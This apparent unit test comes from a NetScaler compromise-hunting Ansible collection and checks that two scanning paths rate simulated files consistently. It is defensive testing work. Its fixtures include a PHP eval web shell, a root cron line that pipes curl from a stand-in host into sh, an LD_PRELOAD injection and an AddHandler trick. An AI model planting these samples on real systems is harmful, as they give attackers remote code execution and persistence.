# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A hunt and a watch give each file of a drawn node the same level, and note the same files as not seen."""

from __future__ import annotations

import gzip
import random
from collections import Counter
from datetime import datetime

import pytest
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.builds import Build
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.foundation.errors import Refused
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.ourselves import NOBODY
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.fix_date import fix_date
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.node_hunt import NodeHunt
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.node_reading.file_reads import Limits
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.node_reading.node_reader import NodeReader
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.compiled_indicators import (
    clues_of,
    general_clues,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.file_rules import LARGE
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.judged_files import (
    FILE_KINDS,
    USUAL,
    FileJudge,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.watched_directories import (
    FOLLOWED,
    MANAGEMENT_PAGES,
)
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.node_look import LIMITS, NodeLook

from tests.hunt_fleet import ENTRIES
from tests.unit.plugin_utils.traces.node_reading.disk import AT, Disk

BUILD = Build.parse("14.1 47.48")
KERNEL = "/flash/ns-14.1-47.48.gz"
PHP = b"<?php eval($_POST['x']);"
NAMES = (
    "a.css",
    "a.js",
    "a.php",
    "a.deb",
    "a.sh",
    "a.gz",
    "a.so",
    "a",
    ".a",
    "a b",
    "NSPPE-1",
    "a.xml",
    "a.conf",
    "log-2026-01-01.php",
)
START_UP = ("rc.netscaler", "crontab", "httpd.conf", "authorized_keys", "nobody", "libmap.conf")
CONTENTS: tuple[bytes | Exception | None, ...] = (
    *(b"x\n", b"", PHP, b"#!/bin/sh\n", b"\x7fELF\x02\x01", b"#NS14.1 Build 47.48\n", b"Salted__", b"template.new"),
    *(gzip.compress(PHP, mtime=0), b"\x1f\x8b" + PHP, b"\x7fELF" + b"x" * LARGE, PHP + b"#" * LARGE, b"#!" + b"x" * LARGE),
    *(b"LD_PRELOAD=/var/tmp/x\n", b"* * * * * root curl http://192.0.2.1 | sh\n", b"AddHandler php5-script .deb\n"),
    *(Refused("no"), None),
)  # fmt: skip
TIMES = (AT, "Wed Jan 15 12:00:07 2020", "Sun Mar 01 04:00:00 2026", "")


def drawn(seed: int) -> Disk:
    """Return a node with files in the directories that are looked at; in some a burst of files has one time."""
    chance = random.Random(seed)
    files: dict[str, bytes | Exception | None] = {KERNEL: b"kernel"} if chance.random() < 0.7 else {}
    times = {}
    for _number in range(25):
        place = chance.choice([place for place in FOLLOWED if place.directory not in (MANAGEMENT_PAGES, "/")])
        below = chance.choice(("", "", "/x", "/.x", "/x/y")) if place.levels else ""
        path = f"{place.directory}{below}/{chance.choice((*NAMES, *START_UP))}"
        files[path], times[path] = chance.choice(CONTENTS), chance.choice(TIMES)
        if chance.random() < 0.3:
            burst = [f"{place.directory}{below}/{number}.css" for number in range(20)]
            files |= dict.fromkeys(burst, b"x")
            times |= dict.fromkeys(burst, times[path])
    disk = Disk(files)
    disk.times |= times
    return disk


@pytest.mark.parametrize("seed", [0, 4, 9, 24, 26, 27])
def test_a_file_has_one_level_whoever_reads_it(seed: int) -> None:
    """A hunt does not read what has no name of code and the time of twenty files around it; a watch reads that in the course of time."""
    clues = (*clues_of(ENTRIES), *general_clues())
    disk = drawn(seed)
    view = NodeReader(disk, Limits())  # type: ignore[arg-type]
    now = datetime(2026, 11, 1)  # noqa: DTZ001 -- a clock of a node has no zone
    fixed = fix_date(view, BUILD, now, lambda: None)
    hunt = NodeHunt("box", view, clues, NOBODY, fixed, now)
    hunt.findings()
    of_files = tuple(clue for clue in clues if clue.kind in FILE_KINDS)
    look = NodeLook(NodeReader(disk, LIMITS), {}, judge=FileJudge(of_files, installed=fixed.since))  # type: ignore[arg-type]
    watched = {path: file for path, file in look.state("14.1 47.48").files.items() if not file.is_directory}
    alike = Counter(disk.times.get(path, AT) for path in disk.files)
    unread = {path for path in watched if path not in view._contents and alike[disk.times.get(path, AT)] >= USUAL}
    levels = {path: file.level for path, file in watched.items() if file.level is not None and path not in unread}
    assert {path: level for path, level in hunt._levels.items() if path in watched.keys() - unread} == levels
    assert levels
